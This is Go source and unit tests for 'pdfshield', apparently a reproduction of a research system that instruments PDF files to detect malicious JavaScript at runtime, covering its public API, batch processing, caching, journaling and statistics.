		}
	}

	// Direction 2: every registered pdfshield family has a constant.
	byValue := make(map[string]bool, len(constants))
	for _, series := range constants {
		byValue[series] = true
	}
	for family := range registered {
		if !strings.HasPrefix(family, "pdfshield_") {
			continue // test-local or third-party series
		}
		if !byValue[family] {
			t.Errorf("runtime registers %q with no Metric* constant in internal/obs — add it to the shared vocabulary", family)
		}
	}
}
