package pdfshield_test

import (
	"context"
	"encoding/json"
	"errors"
	"testing"

	"pdfshield"
	"pdfshield/internal/corpus"
)

// TestPublicAPISessionOpenNoJavaScript pins the Session.Open contract for
// out-of-scope documents: nothing is opened and the error unwraps to
// ErrNoJavaScript (Open previously slipped a nil instrumentation result
// through to the reader).
func TestPublicAPISessionOpenNoJavaScript(t *testing.T) {
	sys := newTestSystem(t, 9.0)
	sess, err := sys.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()

	g := corpus.NewGenerator(555)
	plain := g.BenignText(8 << 10)
	err = sess.Open(plain.ID, plain.Raw)
	if err == nil {
		t.Fatal("Open succeeded on a document with nothing to monitor")
	}
	if !errors.Is(err, pdfshield.ErrNoJavaScript) {
		t.Fatalf("error %v does not unwrap to ErrNoJavaScript", err)
	}

	// The session stays usable for real documents afterwards.
	js := g.BenignWithJS(1)[0]
	if err := sess.Open(js.ID, js.Raw); err != nil {
		t.Fatalf("open after no-JS rejection: %v", err)
	}
}

// TestPublicAPIContextAndStats drives the context-aware batch entry point
// with a private metrics registry and checks the consolidated Stats and
// per-verdict traces agree with the batch result through JSON.
func TestPublicAPIContextAndStats(t *testing.T) {
	sys, err := pdfshield.New(pdfshield.Options{
		ViewerVersion: 9.0,
		Seed:          77,
		Cache:         &pdfshield.CacheConfig{},
		Metrics:       pdfshield.NewRegistry(),
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	g := corpus.NewGenerator(808)
	docs := []pdfshield.BatchDoc{}
	mal, _ := g.MaliciousFamily("mal-printf")
	docs = append(docs, pdfshield.BatchDoc{ID: mal.ID, Raw: mal.Raw})
	for _, s := range g.BenignWithJS(2) {
		docs = append(docs, pdfshield.BatchDoc{ID: s.ID, Raw: s.Raw})
	}
	plain := g.BenignText(10 << 10)
	docs = append(docs, pdfshield.BatchDoc{ID: plain.ID, Raw: plain.Raw})

	res := sys.ProcessBatchContext(context.Background(), docs, pdfshield.BatchOptions{Workers: 2})
	var malicious, nojs uint64
	for i, v := range res.Verdicts {
		if v == nil {
			t.Fatalf("slot %d: %v", i, res.Errors[i])
		}
		if v.Trace == nil || len(v.Trace.Spans) == 0 {
			t.Fatalf("verdict %s carries no trace", v.DocID)
		}
		if v.Malicious {
			malicious++
		}
		if v.NoJavaScript {
			nojs++
		}
	}
	if malicious == 0 || nojs == 0 {
		t.Fatalf("corpus should produce both outcomes (mal=%d nojs=%d)", malicious, nojs)
	}

	st := sys.Stats()
	if st.Docs.Total != uint64(len(docs)) || st.Docs.Malicious != malicious || st.Docs.NoJavaScript != nojs {
		t.Fatalf("stats %+v inconsistent with batch (total=%d mal=%d nojs=%d)",
			st.Docs, len(docs), malicious, nojs)
	}
	if st.Cache == nil || st.Cache.Misses == 0 {
		t.Fatalf("cache stats missing from Stats: %+v", st.Cache)
	}
	if st.Quarantined != sys.QuarantinedCount() {
		t.Errorf("Stats.Quarantined = %d, accessor says %d", st.Quarantined, sys.QuarantinedCount())
	}

	data, err := json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	var back pdfshield.Stats
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.Docs != st.Docs || back.Quarantined != st.Quarantined {
		t.Fatalf("Stats JSON round-trip mismatch:\n got %+v\nwant %+v", back, st)
	}

	// A cancelled context is reported per slot, errors.Is-able.
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	extra := g.BenignWithJS(1)[0]
	res = sys.ProcessBatchContext(ctx, []pdfshield.BatchDoc{{ID: extra.ID, Raw: extra.Raw}}, pdfshield.BatchOptions{Workers: 1})
	if res.Verdicts[0] != nil || !errors.Is(res.Errors[0], context.Canceled) {
		t.Fatalf("cancelled batch slot = (%v, %v)", res.Verdicts[0], res.Errors[0])
	}
}
