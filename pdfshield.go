// Package pdfshield is the public API of a complete reproduction of
// "Detecting Malicious Javascript in PDF through Document Instrumentation"
// (Liu, Wang, Stavrou — DSN 2014): a context-aware system that statically
// instruments PDF documents with encrypted context-monitoring code and
// detects infection attempts at runtime by correlating hooked system-level
// behaviour with Javascript execution context.
//
// The typical flow mirrors the paper's two phases:
//
//	sys, _ := pdfshield.New(pdfshield.Options{})
//	defer sys.Close()
//	verdict, _ := sys.ProcessDocumentContext(ctx, "invoice.pdf", raw)
//	if verdict.Malicious { ... }
//
// ProcessDocumentContext instruments the document (Phase I), opens it in
// a simulated, hooked reader process wired to the live runtime detector
// (Phase II), and reports the verdict with the full 13-feature malscore
// breakdown. Options.Depth (or BatchOptions.Depth per batch) selects the
// scan tier: DepthStatic routes on triage alone, DepthStandard performs
// the dynamic open, DepthDeep adds forced execution of dormant branches,
// and DepthAuto escalates only triage-uncertain documents to the deep
// lane.
//
// Lower-level entry points: Analyze extracts the five static features
// without modifying a document; Instrument performs Phase I only; Session
// opens several documents inside one reader process, reproducing the
// paper's multi-document attribution.
package pdfshield

import (
	"context"
	"errors"
	"fmt"
	"io"
	"time"

	"pdfshield/internal/cache"
	"pdfshield/internal/detect"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/js"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/reader"
	"pdfshield/internal/triage"
)

// Depth selects how hard a submission is scanned — the single
// depth-axis knob of the API (see the Depth* constants). It replaces
// the accreted per-tier toggles: the deprecated Options.Triage field
// and the commands' -triage flags remain as aliases for one release.
type Depth = pipeline.Depth

const (
	// DepthStatic judges every document on static triage evidence alone;
	// no reader process is ever created.
	DepthStatic = pipeline.DepthStatic
	// DepthStandard is the classic single-execution dynamic scan (the
	// default when Depth is unset and Triage is nil).
	DepthStandard = pipeline.DepthStandard
	// DepthDeep force-executes every document: conditional branches are
	// explored on both arms and runtime features are unioned across all
	// explored paths, defeating time bombs, environment fingerprinting
	// and sandbox-detection gates.
	DepthDeep = pipeline.DepthDeep
	// DepthAuto routes by triage: confident documents are judged
	// statically, uncertain ones escalate to a forced-execution deep
	// scan. The recommended production setting.
	DepthAuto = pipeline.DepthAuto
)

// ParseDepth validates a depth name from a flag or request field ("" is
// accepted and means "unset": the system default resolution applies).
func ParseDepth(s string) (Depth, error) { return pipeline.ParseDepth(s) }

// DeepScanConfig bounds the forced-execution explorer used at DepthDeep
// and DepthAuto; see Options.DeepScan. Zero fields take the built-in
// defaults (16 paths, 64 decisions, 2M steps per path).
type DeepScanConfig = js.ForceConfig

// Options configures a System.
type Options struct {
	// ViewerVersion selects the simulated Acrobat version (default 9.0;
	// the paper's testbed ran 8.0 and 9.0).
	ViewerVersion float64
	// Seed makes instrumentation randomization and corpus generation
	// reproducible (0 = time-based).
	Seed int64
	// DownloadsPath persists the JS-context executable list across
	// sessions ("" keeps it in memory).
	DownloadsPath string
	// DeinstrumentBenign restores original scripts once a document is
	// classified benign (§III-F).
	DeinstrumentBenign bool
	// Cache enables the content-addressed front-end cache (nil = off):
	// documents are keyed by the SHA-256 of their bytes, and resubmitted
	// or duplicated documents reuse the completed static front-end
	// (parse, feature extraction, chain reconstruction, instrumentation)
	// instead of repeating it. Runtime detection still runs per open —
	// verdicts are never cached, only the static artifact.
	Cache *CacheConfig
	// Metrics selects the observability registry the system reports into
	// (nil = the process-wide default registry, which is what the
	// -metrics-addr endpoints of the bundled commands serve). Pass a
	// dedicated obs.NewRegistry() to isolate one System's numbers, e.g.
	// when running several Systems in one process.
	Metrics *Registry
	// Journal, when non-nil, records the forensic event stream of every
	// document processed: JS-context transitions, each hooked API call
	// with the confinement decision returned, feature triggers F6–F13,
	// fake-message detections with cause, confinement actions, and the
	// final verdict with per-feature malscore breakdown — one JSONL line
	// per event with monotonically increasing sequence numbers. Journal
	// writes are fail-open: a sink error is counted (see Journal.Err)
	// and never changes a verdict. Build one with NewJournal or
	// OpenJournal; a recorded journal replays offline through
	// `pdfshield-detect -replay`.
	Journal *Journal
	// Depth is the system-wide scan depth (DepthStatic, DepthStandard,
	// DepthDeep or DepthAuto). Empty means unset: the legacy resolution
	// applies, where a non-nil Triage selects triage-gated standard
	// scanning and everything else runs DepthStandard.
	// BatchOptions.Depth overrides this per batch.
	Depth Depth
	// DeepScan bounds the forced-execution explorer used at DepthDeep
	// and DepthAuto (zero fields = defaults). Ignored at other depths.
	DeepScan DeepScanConfig
	// Triage enables the static fast-path tier between the front-end and
	// the reader session (nil = off). Confident-benign documents skip the
	// sandbox, confident-malicious documents are convicted without being
	// opened, and everything uncertain falls through to the full dynamic
	// open unchanged. Routing is fail-safe: any parse ambiguity,
	// encryption, unknown API or analysis-budget blowup routes the
	// document to the dynamic tier. The zero TriageConfig is the
	// production default.
	//
	// Deprecated: set Depth instead — DepthAuto gives triage routing with
	// deep-scan escalation, DepthStatic gives triage-only verdicts.
	// Honoured as an alias for one release: with Depth unset, a non-nil
	// Triage behaves like triage-gated DepthStandard; at
	// DepthStatic/DepthAuto it carries its tuning into the tier.
	Triage *TriageConfig
	// Diag tunes the diagnostics layer — flight recorder ring sizes, SLO
	// objectives, stall-watchdog deadlines — or disables it entirely
	// (Diag.Disable). The zero value enables everything with bounded
	// defaults; see Stats.SLO/Flight/Watchdog and System.Diagnostics.
	Diag DiagConfig
}

// DiagConfig tunes the diagnostics subsystem (flight recorder, SLO
// tracking, stall watchdog); see Options.Diag.
type DiagConfig = obs.DiagConfig

// Diagnostics is the live diagnostics handle: retained traces, SLO burn
// rates, stall reports, and the WriteDump operator report.
type Diagnostics = obs.Diagnostics

// Diagnostics exposes the System's diagnostics layer (nil when
// Options.Diag.Disable was set).
func (s *System) Diagnostics() *Diagnostics { return s.inner.Diagnostics() }

// TriageConfig tunes the static triage tier; see Options.Triage.
type TriageConfig = triage.Config

// Journal is the append-only forensic event log (JSONL, sequence-numbered,
// fail-open). See Options.Journal.
type Journal = journal.Writer

// JournalEvent is one decoded journal record (see ReadJournal).
type JournalEvent = journal.Event

// NewJournal starts a journal on an arbitrary sink. The session string
// names the recording in the journal header ("" = "pdfshield").
func NewJournal(w io.Writer, session string) *Journal {
	return journal.NewWriter(w, journal.Options{Session: session})
}

// OpenJournal creates (truncating) a journal file that flushes after
// every event, so the record survives a crash mid-scan. The caller owns
// Close.
func OpenJournal(path, session string) (*Journal, error) {
	return journal.Create(path, journal.Options{Session: session, FlushEach: true})
}

// ReadJournal decodes a JSONL journal stream (validating the append-only
// sequence contract).
func ReadJournal(r io.Reader) ([]JournalEvent, error) {
	return journal.Read(r)
}

// Registry aggregates counters, gauges and latency histograms; see
// System.Stats for the consolidated snapshot and Options.Metrics for
// wiring a dedicated registry.
type Registry = obs.Registry

// NewRegistry returns an empty metrics registry for Options.Metrics.
func NewRegistry() *Registry { return obs.NewRegistry() }

// CacheConfig bounds the front-end cache. Zero values take the built-in
// defaults (4096 entries, 256 MB, no expiry); negative caps disable the
// corresponding bound.
type CacheConfig struct {
	// MaxEntries caps the number of cached documents.
	MaxEntries int
	// MaxBytes caps the total retained payload bytes.
	MaxBytes int64
	// TTL expires entries this long after insertion (0 = never).
	TTL time.Duration
}

// CacheStats is a point-in-time snapshot of the front-end cache counters.
type CacheStats struct {
	// Hits counts submissions served from a completed cache entry.
	Hits uint64 `json:"hits"`
	// Misses counts submissions that ran the full static front-end.
	Misses uint64 `json:"misses"`
	// Shared counts submissions that joined another submission's
	// in-flight front-end pass (the singleflight layer).
	Shared uint64 `json:"shared"`
	// Evictions and Expired count entries dropped by the capacity bounds
	// and by TTL expiry.
	Evictions uint64 `json:"evictions"`
	Expired   uint64 `json:"expired"`
	// Entries and Bytes describe current residency.
	Entries int   `json:"entries"`
	Bytes   int64 `json:"bytes"`
}

// HitRate is the fraction of submissions that skipped the front-end.
func (s CacheStats) HitRate() float64 {
	total := s.Hits + s.Shared + s.Misses
	if total == 0 {
		return 0
	}
	return float64(s.Hits+s.Shared) / float64(total)
}

func toCacheStats(in cache.Stats) CacheStats {
	return CacheStats{
		Hits:      in.Hits,
		Misses:    in.Misses,
		Shared:    in.Shared,
		Evictions: in.Evictions,
		Expired:   in.Expired,
		Entries:   in.Entries,
		Bytes:     in.Bytes,
	}
}

// CacheStats snapshots the front-end cache; ok is false when the system
// runs without one.
func (s *System) CacheStats() (stats CacheStats, ok bool) {
	inner, ok := s.inner.CacheStats()
	if !ok {
		return CacheStats{}, false
	}
	return toCacheStats(inner), true
}

// System is a running protection stack: front-end instrumenter plus the
// runtime detector with its SOAP and hook servers.
type System struct {
	inner *pipeline.System
}

// New starts a protection system.
func New(opts Options) (*System, error) {
	var cacheCfg *cache.Config
	if opts.Cache != nil {
		cacheCfg = &cache.Config{
			MaxEntries: opts.Cache.MaxEntries,
			MaxBytes:   opts.Cache.MaxBytes,
			TTL:        opts.Cache.TTL,
		}
	}
	inner, err := pipeline.NewSystem(pipeline.Options{
		ViewerVersion:      opts.ViewerVersion,
		Seed:               opts.Seed,
		DownloadsPath:      opts.DownloadsPath,
		DeinstrumentBenign: opts.DeinstrumentBenign,
		Cache:              cacheCfg,
		Obs:                opts.Metrics,
		Journal:            opts.Journal,
		Depth:              opts.Depth,
		DeepScan:           opts.DeepScan,
		Triage:             opts.Triage,
		Diag:               opts.Diag,
	})
	if err != nil {
		return nil, fmt.Errorf("pdfshield: %w", err)
	}
	return &System{inner: inner}, nil
}

// Close stops the detector servers.
func (s *System) Close() error { return s.inner.Close() }

// StaticFeatures are the five novel static features of §III-B.
type StaticFeatures = instrument.StaticFeatures

// Verdict is the outcome of processing one document.
type Verdict struct {
	DocID string
	// Malicious reports a runtime alert for this document.
	Malicious bool
	// Malscore is Equation 1's weighted sum at alert time (0 if benign).
	Malscore int
	// Features lists the positive features at alert time.
	Features []string
	// Reason is "malscore" or "fake-message" for malicious documents.
	Reason string
	// NoJavaScript marks out-of-scope documents.
	NoJavaScript bool
	// Crashed reports the reader process crashed (failed exploit).
	Crashed bool
	// Static holds the front-end features.
	Static StaticFeatures
	// IsolatedFiles lists quarantined artifacts.
	IsolatedFiles []string
	// Deinstrumented holds restored bytes when DeinstrumentBenign is set
	// and the document proved benign.
	Deinstrumented []byte
	// Trace records the document's journey through the pipeline: ordered
	// phase spans (parse → analyze → instrument → open → detect) with
	// cache and outcome annotations. Nil when processing errored before a
	// verdict formed.
	Trace *Trace
	// TriageRoute is the static triage tier's decision for this document
	// ("benign", "malicious", "uncertain"; empty when the resolved depth
	// runs no triage or the document short-circuited before the tier
	// ran). Routed documents ("benign"/"malicious") never opened a
	// reader process.
	TriageRoute string
	// Depth is the resolved scan depth this verdict was produced under
	// ("static", "standard", "deep" or "auto"; empty only when the
	// document short-circuited before depth resolution, e.g.
	// NoJavaScript).
	Depth string
	// DeepScanPaths counts the execution paths explored by forced
	// execution (0 unless the resolved depth deep-scanned this document;
	// a natural single run counts as 1 path per script).
	DeepScanPaths int
}

// Trace is one document's phase-span record; it marshals to JSON with
// nanosecond offsets relative to its start time.
type Trace = obs.Trace

// TraceSpan is one phase's interval inside a Trace.
type TraceSpan = obs.Span

// ProcessDocument runs the full pipeline on one document with no
// cancellation point.
//
// Deprecated: use ProcessDocumentContext, which honors ctx between
// pipeline phases.
func (s *System) ProcessDocument(docID string, raw []byte) (*Verdict, error) {
	return s.ProcessDocumentContext(context.Background(), docID, raw)
}

// ProcessDocumentContext runs the full pipeline on one document. The
// context is checked at every phase boundary (front-end, session open,
// detection): once it ends, processing stops and ctx.Err() is returned
// (unwrappable via errors.Is).
func (s *System) ProcessDocumentContext(ctx context.Context, docID string, raw []byte) (*Verdict, error) {
	v, err := s.inner.ProcessDocumentContext(ctx, docID, raw)
	if err != nil {
		return nil, fmt.Errorf("pdfshield: process %s: %w", docID, err)
	}
	return toVerdict(v), nil
}

func toVerdict(v *pipeline.Verdict) *Verdict {
	out := &Verdict{
		DocID:          v.DocID,
		Malicious:      v.Malicious,
		NoJavaScript:   v.NoJavaScript,
		Crashed:        v.Crashed,
		Deinstrumented: v.Deinstrumented,
		Trace:          v.Trace,
		TriageRoute:    v.TriageRoute,
		Depth:          v.Depth,
	}
	if v.Open != nil {
		out.DeepScanPaths = v.Open.DeepPaths
	}
	if v.Instrument != nil {
		out.Static = v.Instrument.Features
	}
	if v.Alert != nil {
		out.Malscore = v.Alert.Malscore
		out.Features = v.Alert.Features.Positive()
		out.Reason = v.Alert.Reason
		out.IsolatedFiles = v.Alert.IsolatedFiles
	}
	return out
}

// BatchDoc is one input document for ProcessBatch.
type BatchDoc struct {
	ID  string
	Raw []byte
}

// BatchOptions tunes a batch run.
type BatchOptions struct {
	// Workers is the number of concurrent reader sessions, each a
	// long-lived recycled reader process wired to the shared detector.
	// Zero or negative means runtime.NumCPU().
	Workers int
	// Depth overrides the system-wide Options.Depth for this batch
	// (empty = inherit). An unknown value fails every slot in the batch.
	Depth Depth
}

// BatchResult collects a batch run's outcome. Verdicts and Errors are
// indexed like the input documents; exactly one of Verdicts[i]/Errors[i]
// is non-nil per document.
type BatchResult struct {
	Verdicts []*Verdict
	Errors   []error
	// CacheStats snapshots the front-end cache after the batch (nil when
	// the system runs without one).
	CacheStats *CacheStats
}

// ProcessBatch runs the full pipeline over many documents with no
// cancellation point.
//
// Deprecated: use ProcessBatchContext, which stops dispatching documents
// once the context ends.
func (s *System) ProcessBatch(docs []BatchDoc, opts BatchOptions) *BatchResult {
	return s.ProcessBatchContext(context.Background(), docs, opts)
}

// ProcessBatchContext runs the full pipeline over many documents with a
// worker pool. Per-document failures land in BatchResult.Errors instead
// of aborting the batch, results come back in input order, and verdicts
// match what serial ProcessDocumentContext calls would produce for the same
// Seed. Once ctx ends, no further document is dispatched: documents
// already processed keep their verdicts, and every remaining slot's
// error satisfies errors.Is(err, ctx.Err()).
func (s *System) ProcessBatchContext(ctx context.Context, docs []BatchDoc, opts BatchOptions) *BatchResult {
	in := make([]pipeline.BatchDoc, len(docs))
	for i, d := range docs {
		in[i] = pipeline.BatchDoc{ID: d.ID, Raw: d.Raw}
	}
	res := s.inner.ProcessBatchContext(ctx, in, pipeline.BatchOptions{Workers: opts.Workers, Depth: opts.Depth})
	out := &BatchResult{Verdicts: make([]*Verdict, len(docs)), Errors: make([]error, len(docs))}
	if res.CacheStats != nil {
		stats := toCacheStats(*res.CacheStats)
		out.CacheStats = &stats
	}
	for i, v := range res.Verdicts {
		if err := res.Errors[i]; err != nil {
			out.Errors[i] = fmt.Errorf("pdfshield: process %s: %w", docs[i].ID, err)
			continue
		}
		if v != nil {
			out.Verdicts[i] = toVerdict(v)
		}
	}
	return out
}

// Analyze extracts static features from a document without modifying it.
func Analyze(raw []byte) (StaticFeatures, error) {
	feats, _, _, err := instrument.Analyze(raw)
	if err != nil {
		return StaticFeatures{}, fmt.Errorf("pdfshield: analyze: %w", err)
	}
	return feats, nil
}

// InstrumentResult describes a Phase-I instrumentation.
type InstrumentResult struct {
	// Output is the instrumented document.
	Output []byte
	// Key is the wire-form protection key ("DetectorID:InstrKey").
	Key string
	// ScriptsInstrumented counts context-monitor insertions.
	ScriptsInstrumented int
	// Static holds the extracted features.
	Static StaticFeatures
}

// Instrument runs Phase I only: static analysis plus document
// instrumentation. Returns instrument.ErrNoJavaScript (via errors.Is) for
// documents with nothing to monitor.
func (s *System) Instrument(docID string, raw []byte) (*InstrumentResult, error) {
	res, err := s.inner.Instrumenter.InstrumentBytes(docID, raw)
	if err != nil {
		return nil, err
	}
	return &InstrumentResult{
		Output:              res.Output,
		Key:                 res.Key.String(),
		ScriptsInstrumented: res.ScriptsInstrumented,
		Static:              res.Features,
	}, nil
}

// ErrNoJavaScript re-exports the out-of-scope sentinel.
var ErrNoJavaScript = instrument.ErrNoJavaScript

// Session opens multiple documents inside one simulated reader process,
// reproducing the paper's multi-document attribution scenario.
type Session struct {
	sys   *System
	inner *pipeline.Session
}

// NewSession starts a hooked reader process.
func (s *System) NewSession() (*Session, error) {
	inner, err := s.inner.NewSession()
	if err != nil {
		return nil, fmt.Errorf("pdfshield: session: %w", err)
	}
	return &Session{sys: s, inner: inner}, nil
}

// Open instruments (if needed) and opens a document inside the session's
// reader process. The document stays open until the session closes.
//
// Documents without Javascript have nothing to monitor: Open does not
// open them and returns an error satisfying
// errors.Is(err, ErrNoJavaScript), so callers can distinguish
// out-of-scope documents from real failures. (Earlier versions silently
// passed the nil instrumentation result through to the reader.)
func (sess *Session) Open(docID string, raw []byte) error {
	res, err := sess.sys.inner.Instrumenter.InstrumentBytes(docID, raw)
	if err != nil {
		if errors.Is(err, instrument.ErrNoJavaScript) {
			return fmt.Errorf("pdfshield: open %s: %w", docID, err)
		}
		return err
	}
	if _, err := sess.inner.Open(res, reader.OpenOptions{}); err != nil {
		return fmt.Errorf("pdfshield: open %s: %w", docID, err)
	}
	return nil
}

// Close terminates the reader process.
func (sess *Session) Close() { sess.inner.Close() }

// IsMalicious reports whether the detector has alerted on docID.
func (s *System) IsMalicious(docID string) bool {
	return s.inner.Detector.IsMalicious(docID)
}

// Alerts returns all alerts raised so far.
func (s *System) Alerts() []detect.Alert {
	return s.inner.Detector.Alerts()
}

// QuarantinedCount returns how many artifacts confinement has isolated.
//
// Deprecated: use Stats, which reports the same value alongside every
// other counter.
func (s *System) QuarantinedCount() int {
	return s.inner.OS.QuarantineCount()
}

// DocStats counts per-document pipeline outcomes.
type DocStats = pipeline.DocStats

// PhaseStats summarizes one phase's latency histogram.
type PhaseStats = pipeline.PhaseStats

// DetectStats counts front-end and runtime detector activity.
type DetectStats = pipeline.DetectStats

// TriageStats counts static triage routing decisions.
type TriageStats = pipeline.TriageStats

// SLOStatus reports one latency objective's rolling error-budget burn.
type SLOStatus = obs.SLOStatus

// FlightStats summarizes the flight recorder's retention rings.
type FlightStats = obs.FlightStats

// WatchdogStats summarizes the stall watchdog.
type WatchdogStats = obs.WatchdogStats

// Stats is a consolidated point-in-time snapshot of the System: document
// outcomes, per-phase latency (keys "parse", "analyze", "instrument",
// "open", "detect", plus "total" for end-to-end), detector activity,
// front-end cache counters and quarantine state. It is the one-call
// replacement for the scattered CacheStats/Alerts/QuarantinedCount
// accessors and marshals cleanly to JSON.
type Stats struct {
	Docs   DocStats              `json:"docs"`
	Phases map[string]PhaseStats `json:"phases,omitempty"`
	Detect DetectStats           `json:"detect"`
	// Cache snapshots the front-end cache (nil when the System runs
	// without one).
	Cache *CacheStats `json:"cache,omitempty"`
	// Triage counts static triage routes (all zero when Options.Triage is
	// nil).
	Triage TriageStats `json:"triage"`
	// Quarantined is how many artifacts runtime confinement has isolated.
	Quarantined int `json:"quarantined"`
	// BatchQueueDepth and BatchWorkers reflect in-flight batch calls;
	// SessionsActive counts open reader sessions.
	BatchQueueDepth int64 `json:"batch_queue_depth"`
	BatchWorkers    int64 `json:"batch_workers"`
	SessionsActive  int64 `json:"sessions_active"`
	// SLO, Flight and Watchdog mirror the diagnostics subsystem (empty/nil
	// when the System runs with diagnostics disabled).
	SLO      []SLOStatus    `json:"slo,omitempty"`
	Flight   *FlightStats   `json:"flight,omitempty"`
	Watchdog *WatchdogStats `json:"watchdog,omitempty"`
}

// Stats snapshots the System's observability registry. When several
// Systems share one registry (the Options.Metrics == nil default), the
// Docs/Phases/Detect sections aggregate across them, while Cache and
// Quarantined are always this System's own.
func (s *System) Stats() Stats {
	in := s.inner.Stats()
	out := Stats{
		Docs:            in.Docs,
		Phases:          in.Phases,
		Detect:          in.Detect,
		Triage:          in.Triage,
		Quarantined:     in.Quarantined,
		BatchQueueDepth: in.BatchQueueDepth,
		BatchWorkers:    in.BatchWorkers,
		SessionsActive:  in.SessionsActive,
		SLO:             in.SLO,
		Flight:          in.Flight,
		Watchdog:        in.Watchdog,
	}
	if in.Cache != nil {
		cs := toCacheStats(*in.Cache)
		out.Cache = &cs
	}
	return out
}

// Version reports the reproduced system's provenance.
const Version = "pdfshield 1.0 — reproduction of Liu, Wang & Stavrou, DSN 2014"

// ValidatePDF reports whether raw can be processed as a PDF document
// (lenient mode). Validation rides the front-end's analyze pass and reuses
// its parsed document, so validate-then-analyze flows parse once instead
// of running a second pdf.Parse over the same bytes.
func ValidatePDF(raw []byte) error {
	_, err := Analyze(raw)
	return err
}
