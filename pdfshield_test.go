package pdfshield_test

import (
	"errors"
	"testing"

	"pdfshield"
	"pdfshield/internal/corpus"
)

func newTestSystem(t *testing.T, version float64) *pdfshield.System {
	t.Helper()
	sys, err := pdfshield.New(pdfshield.Options{ViewerVersion: version, Seed: 77})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })
	return sys
}

func TestPublicAPIMaliciousVerdict(t *testing.T) {
	sys := newTestSystem(t, 8.0)
	g := corpus.NewGenerator(301)
	s, _ := g.MaliciousFamily("mal-newplayer")

	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatal("not detected through public API")
	}
	if v.Malscore < 10 {
		t.Errorf("malscore = %d", v.Malscore)
	}
	if len(v.Features) == 0 {
		t.Error("no features reported")
	}
	if v.Reason != "malscore" {
		t.Errorf("reason = %q", v.Reason)
	}
	if !sys.IsMalicious(s.ID) {
		t.Error("IsMalicious disagrees")
	}
	if len(sys.Alerts()) == 0 {
		t.Error("no alerts exposed")
	}
}

func TestPublicAPIBenignVerdict(t *testing.T) {
	sys := newTestSystem(t, 9.0)
	g := corpus.NewGenerator(302)
	s := g.BenignFormJS()
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if v.Malicious {
		t.Fatalf("false positive: %+v", v)
	}
	if !v.Static.HasJavaScript {
		t.Error("static features lost")
	}
}

func TestPublicAPINoJavaScript(t *testing.T) {
	sys := newTestSystem(t, 9.0)
	g := corpus.NewGenerator(303)
	s := g.BenignText(32 << 10)
	v, err := sys.ProcessDocument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.NoJavaScript {
		t.Error("expected out-of-scope verdict")
	}
}

func TestPublicAPIAnalyze(t *testing.T) {
	g := corpus.NewGenerator(304)
	s := g.BenignFormJS()
	feats, err := pdfshield.Analyze(s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !feats.HasJavaScript {
		t.Error("analyze missed javascript")
	}
	if err := pdfshield.ValidatePDF(s.Raw); err != nil {
		t.Errorf("validate: %v", err)
	}
	if err := pdfshield.ValidatePDF([]byte("garbage")); err == nil {
		t.Error("garbage validated")
	}
}

func TestPublicAPIInstrumentOnly(t *testing.T) {
	sys := newTestSystem(t, 9.0)
	g := corpus.NewGenerator(305)
	s := g.BenignFormJS()
	res, err := sys.Instrument(s.ID, s.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if res.ScriptsInstrumented == 0 {
		t.Error("nothing instrumented")
	}
	if res.Key == "" {
		t.Error("no key")
	}
	if len(res.Output) == 0 {
		t.Error("no output")
	}
	// Scriptless documents surface the sentinel.
	plain := g.BenignText(4 << 10)
	if _, err := sys.Instrument(plain.ID, plain.Raw); !errors.Is(err, pdfshield.ErrNoJavaScript) {
		t.Errorf("want ErrNoJavaScript, got %v", err)
	}
}

func TestPublicAPISessionMultiDoc(t *testing.T) {
	sys := newTestSystem(t, 8.0)
	g := corpus.NewGenerator(306)
	benign := g.BenignNavJS()
	mal, _ := g.MaliciousFamily("mal-printf")

	sess, err := sys.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sess.Open(benign.ID, benign.Raw); err != nil {
		t.Fatal(err)
	}
	if err := sess.Open(mal.ID, mal.Raw); err != nil {
		t.Fatal(err)
	}
	sess.Close()

	if sys.IsMalicious(benign.ID) {
		t.Error("benign doc flagged in shared session")
	}
	if !sys.IsMalicious(mal.ID) {
		t.Error("malicious doc missed in shared session")
	}
}
